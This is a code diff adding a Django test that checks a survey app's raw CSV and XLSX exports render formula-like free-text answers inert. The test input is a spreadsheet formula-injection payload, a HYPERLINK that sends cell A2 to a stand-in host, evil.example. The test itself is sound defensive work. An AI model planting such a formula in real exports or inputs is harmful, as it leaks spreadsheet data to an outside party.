@@ -228,3 +228,21 @@ def test_the_results_page_reads_in_a_fixed_number_of_queries(
     assert page.status_code == 200
     body = page.content.decode()
     assert "&lt;5" in body and "<svg" in body and "<caption" in body
+
+
+def test_raw_exports_neutralise_formulas_in_free_text(client, coordinator, survey):
+    """A parent's free text that a spreadsheet would run as a formula is exported inert."""
+    q = questions_by_kind(survey)
+    evil = '=HYPERLINK("http://evil.example/?x="&A2,"Klick")'
+    answer(survey, q, district="zentrum", wish="ja", text=evil)
+    client.force_login(coordinator.user)
+    kwargs = {"alliance_slug": survey.alliance.slug, "pk": survey.pk}
+    csv_url = reverse("participation:manage-survey-raw-csv", kwargs=kwargs)
+    text = b"".join(client.get(csv_url).streaming_content).decode("utf-8-sig")
+    cells = [cell for row in csv.reader(io.StringIO(text), delimiter=";") for cell in row]
+    assert "'" + evil in cells and evil not in cells
+
+    xlsx_url = reverse("participation:manage-survey-raw-xlsx", kwargs=kwargs)
+    sheet = load_workbook(io.BytesIO(client.get(xlsx_url).content)).active
+    found = [cell for row in sheet.iter_rows() for cell in row if cell.value == evil]
+    assert found and all(cell.data_type == "s" for cell in found)
